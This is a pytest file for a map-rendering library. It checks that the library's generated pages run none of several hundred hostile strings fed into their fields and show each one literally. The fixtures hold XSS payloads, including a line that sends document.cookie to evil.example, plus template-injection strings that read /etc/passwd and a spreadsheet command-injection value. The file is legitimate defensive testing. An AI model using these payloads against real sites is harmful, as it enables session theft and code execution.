# ruff: noqa: E501  the texts and the scripts for the page stand whole
"""Hostile texts in every field that reaches a map: nothing runs, every text is shown as it was."""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Callable
from itertools import cycle, islice
from pathlib import Path
from typing import Any

import folium
import geopandas as gpd
import pytest
from xstatic.pkg import leaflet

from linemap import schema
from linemap.disclosure import Release, as_published
from linemap.maps import FlowLayer, compare_maps, flow_map

ACTS = (
    "window.ran = 1", "alert(1)", "top.ran=1", "self['ran']=1", "import('https://evil.example/x.js')",
    "fetch('https://evil.example/?'+document.cookie)", "document.write('<b>ran</b>')",
    "location='https://evil.example'", "eval('window.ran=1')", "setTimeout('window.ran=1')",
)  # fmt: skip
SHAPES = (
    "<script>{}</script>", "</script><script>{}</script>", "<ScRiPt >{}</sCrIpT >", "<script src=data:,{}></script>",
    "<img src=x onerror=\"{}\">", "<img/src=x/onerror={}>", "<svg onload=\"{}\">", "<svg><script>{}</script></svg>",
    "<body onload={}>", "<iframe srcdoc=\"<script>parent.{}</script>\">", "<iframe src=\"javascript:{}\">",
    "<a href=\"javascript:{}\">x</a>", "<details open ontoggle={}>", "<input autofocus onfocus={}>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>", "<style>*{{background:url(javascript:{})}}</style>",
    "<template><script>{}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<!--><script>{}</script-->", "<![CDATA[<script>{}</script>]]>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "</style><script>{}</script>", "--><script>{}</script><!--",
    "\" onmouseover=\"{}\" x=\"", "' onfocus='{}' autofocus x='", "` onclick=`{}`", "\"><script>{}</script>", "'><script>{}</script>",
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", " javascript:{}", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4={}", "vbscript:{}", "blob:{}", "//evil.example/{}", "https://evil.example/?{}",
    "${{{}}}", "`${{{}}}`", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "\\x3cscript\\x3e{}\\x3c/script\\x3e", "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;", "\"}}];{};[{{\"", "'}});{};//", "\\\");{};//", "*/{};/*", "]]>{}",
)  # fmt: skip
TEMPLATES = (
    "{{ 7 * 191 }}", "{% for x in range(9) %}ran{% endfor %}", "{% raw %}", "{% endraw %}", "{% include '/etc/passwd' %}", "{# gone #}",
    "{{ cycler.__init__.__globals__.os.getpid() }}", "{{ this._parent }}", "{{ ''.__class__.__mro__ }}", "{{", "}}", "{%", "%}", "{#", "#}",
    "${7*191}", "#{7*191}", "<%= 7*191 %>", "{7*191}", "%(name)s", "{0}", "{name!r}", "%s%n", "$(window.ran=1)", "@@{x}",
)  # fmt: skip
STRANGE = (
    "\u202eevil\u202c", "\u2066abc\u2069", "\u200fשלום\u200e", "مرحبا", "a\u200bb\u200cc\u200dd", "\ufeffBOM", "e\u0301\u0301\u0301", "\u0000nul", "a\u0007b\u001b[31m",
    "line\nbreak", "car\rriage", "tab\there", "\u2028line sep\u2029", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "Ynys Môn", "King’s Lynn", "Llanfair­pwll", "\u00a0", " lead and trail ",
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "__proto__", "constructor", "toString", "hasOwnProperty", "null", "undefined", "NaN", "true", "0", "-1",
    "é" * 400, "W" * 5000, "word " * 600, "\u0336".join("struck"), "<" * 300, "&" * 300, "\\" * 99, "'" * 99, '"' * 99,
)  # fmt: skip
HOSTILE = tuple(
    dict.fromkeys(
        [shape.format(act) for shape in SHAPES for act in ACTS] + list(TEMPLATES) + list(STRANGE)
    )
)
FIELDS = (
    schema.ORIGIN_NAME, schema.DESTINATION_NAME, schema.MEASURE, schema.SOURCE, schema.PUBLISHED, schema.URL,
    schema.NOTE, schema.QUALIFIER, schema.FLOW_ID, "tag <b>one</b> {{ 7*191 }}",
)  # fmt: skip
BOROUGHS = ("borough:islington", "borough:hackney", "borough:camden")
TOWNS = ("settlement:2641181", "settlement:2636432", "county:norfolk", None)


@pytest.fixture(scope="module")
def hostile(make_flows: Callable[..., gpd.GeoDataFrame]) -> gpd.GeoDataFrame:
    """One statement a hostile text; each field has another one, and every field has them all."""
    rows = []
    for number in range(len(HOSTILE)):
        texts = islice(cycle(HOSTILE), number, None, 53)
        row: dict[str, Any] = dict(zip(FIELDS, texts, strict=False))
        row[schema.FLOW_ID] = f"{number} {row[schema.FLOW_ID]}"
        row[schema.ORIGIN_ID] = BOROUGHS[number % 3]
        row[schema.DESTINATION_ID] = TOWNS[number % 4]
        row[schema.COUNT] = number if number % 2 else None
        row[schema.DISTANCE_KM] = row[schema.DISTANCE_LOW_KM] = row[schema.DISTANCE_HIGH_KM] = 100.0
        rows.append(row)
    return make_flows(rows, kind=schema.STATEMENTS)


@pytest.fixture(scope="module")
def release(hostile: gpd.GeoDataFrame) -> Release:
    return as_published(hostile)


@pytest.fixture(scope="module")
def a_tenth(hostile: gpd.GeoDataFrame) -> Release:
    """Every tenth of them, for pages whose texts go the same way."""
    return as_published(hostile.iloc[::10].reset_index(drop=True))


CHECK = """async (expected) => {
  const app = linemap.maps[0].app, missing = [], seen = new Set();
  app.show("table");
  await new Promise(done => setTimeout(done, 50));
  const next = () => [...document.querySelectorAll(".pager button")].find(b => b.textContent === "Next" && !b.disabled);
  for (;;) {
    for (const cell of document.querySelectorAll("td, th")) seen.add(cell.textContent);
    const button = next();
    if (!button) break;
    button.click();
  }
  for (const text of expected) if (!seen.has(text)) missing.push(text);
  app.show("map");
  const shown = [];
  const { flows, pairs } = app.reading;
  for (let i = 0; i < flows.n; i += 7) {
    app.pin([pairs.origin[pairs.of[i]], pairs.destination[pairs.of[i]]]);
    for (let more = true; more;) {
      const button = [...document.querySelectorAll(".chosen button")].find(b => /^Show \\d+ more/.test(b.textContent) && !b.hidden);
      if (button) button.click();
      more = Boolean(button);
    }
    shown.push(document.querySelector(".chosen").textContent.includes(flows.note.at(i)));
  }
  app.select(1);
  app.select(0);
  app.show("origins");
  await new Promise(done => setTimeout(done, 300));
  return { missing, unshown: shown.filter(yes => !yes).length, ran: window.ran,
    scripts: document.scripts.length, strangers: document.querySelectorAll("img, iframe, object, embed, body form, svg script, svg image").length,
    links: [...document.querySelectorAll("a")].map(a => a.protocol).filter(p => !["http:", "https:", "file:", "blob:"].includes(p)),
    title: document.title, heading: document.querySelector("h1").textContent };
}"""


def test_there_are_enough_hostile_texts() -> None:
    assert len(HOSTILE) >= 500


@pytest.mark.browser
def test_nothing_runs_and_every_text_is_shown_as_it_was(
    hostile: gpd.GeoDataFrame, release: Release, open_page: Callable[..., Any]
) -> None:
    title = HOSTILE[0] + "{{ 7*191 }} ${window.ran=1}"
    said = {"title": title, "subtitle": HOSTILE[30], "notes": HOSTILE[40:44]}
    html = flow_map(release, **said).get_root().render()
    page = open_page(html)
    expected = sorted({str(text) for field in FIELDS for text in hostile[field] if text != ""})
    found = page.run(CHECK, expected)
    assert found["missing"] == []
    assert found["unshown"] == 0
    assert found.get("ran") is None
    assert found["scripts"] == 3  # the data, Leaflet and linemap
    assert found["strangers"] == 0
    assert found["links"] == []
    assert found["heading"] == title
    assert found["title"].split() == title.split()  # a browser trims and joins blanks in a title
    assert page.troubles == []
    assert page.requests == [page.page.url.split("#")[0]]
    assert "1337" not in page.page.content().replace("%2F1337", "")


@pytest.mark.browser
def test_without_scripts_every_text_is_shown_as_it_was(
    hostile: gpd.GeoDataFrame, release: Release, open_page: Callable[..., Any]
) -> None:
    title = HOSTILE[0] + "{{ 7*191 }} ${window.ran=1}"
    html = flow_map(release, title=title).get_root().render()
    page = open_page(html, settle=False, java_script_enabled=False)
    assert page.page.locator(".still h1").text_content() == title
    rows = page.page.locator(".still tbody tr")
    largest = hostile.sort_values(schema.COUNT, ascending=False, kind="stable").iloc[0]
    cells = rows.first.locator("td").all_text_contents()
    shown = " ".join(cells).replace("\ufffd", "\0").split()
    assert shown[: len(largest[schema.ORIGIN_NAME].split())] == largest[schema.ORIGIN_NAME].split()
    assert rows.count() == 200
    strangers = ".still img, .still iframe, .still object, .still a, .still script, .still style"
    assert page.page.locator(strangers).count() == 0
    assert page.page.locator(".still svg > *").count() > 10
    assert page.requests == [page.page.url.split("#")[0]]


@pytest.mark.browser
def test_comparing_labels_are_texts_too(a_tenth: Release, open_page: Callable[..., Any]) -> None:
    labels = (HOSTILE[0], TEMPLATES[0])
    chosen = ("borough:islington", "borough:hackney")
    page = open_page(compare_maps(a_tenth, origins=chosen, labels=labels).get_root().render())
    titles = page.run("[...document.querySelectorAll('.pane-title')].map(e => e.textContent)")
    assert titles == list(labels)
    assert page.troubles == []


@pytest.mark.browser
def test_on_a_plain_folium_map_the_texts_stay_out_of_its_templates(
    a_tenth: Release, open_page: Callable[..., Any], browser: Any, tmp_path: Path
) -> None:
    plain = folium.Map([52, 0], zoom_start=6, tiles=None)
    FlowLayer(a_tenth).add_to(plain)
    folium.LayerControl().add_to(plain)
    html = plain.get_root().render()
    assert not any(text in html for text in HOSTILE if len(text) > 12 and "evil" in text)
    context = browser.new_context()
    page = context.new_page()
    troubles: list[str] = []
    page.on("pageerror", lambda error: troubles.append(str(error)))
    script = (Path(leaflet.BASE_DIR) / "leaflet.js").read_text(encoding="utf-8")

    def answer(route: Any) -> None:
        body = script if "leaflet.js" in route.request.url else ""
        route.fulfill(body=body, content_type="text/javascript")

    page.route(re.compile("^http"), answer)
    file = tmp_path / "plain.html"
    file.write_text(html, encoding="utf-8")
    page.goto(file.as_uri())
    page.wait_for_timeout(300)
    page.evaluate(
        "new MutationObserver(() => { if (document.querySelector('.linemap-tip')) window.told = true; })"
        ".observe(document.body, { subtree: true, childList: true })"
    )
    painted = page.evaluate("document.querySelectorAll('.linemap-frame canvas').length")
    box = page.locator(".folium-map").bounding_box()
    for step in range(0, 400, 8):  # over flows and places, which tell their texts
        page.mouse.move(
            box["x"] + box["width"] / 2 - 40 + step / 4,
            box["y"] + box["height"] / 2 - 100 + step / 2,
        )
    page.wait_for_timeout(50)
    ran = page.evaluate("window.ran")
    told = page.evaluate("window.told")
    context.close()
    assert troubles == []
    assert ran is None
    assert told
    assert painted == 6


def test_a_page_holds_no_special_character_of_a_text(release: Release) -> None:
    html = flow_map(release, title="<&>").get_root().render()
    block = html.split('id="linemap-data">')[1].split("</script>")[0]
    assert block.isascii()
    assert not set(block) & set("<>&'`$%#@")
    assert json.loads(block)["title"] == "<&>"


def test_a_layer_travels_as_base64(release: Release) -> None:
    plain = folium.Map([52, 0], tiles=None)
    layer = FlowLayer(release).add_to(plain)
    html = plain.get_root().render()
    data = html.split('linemap.layer("')[1].split('"')[0]
    assert json.loads(base64.b64decode(data)) == json.loads(json.dumps(layer.payload))
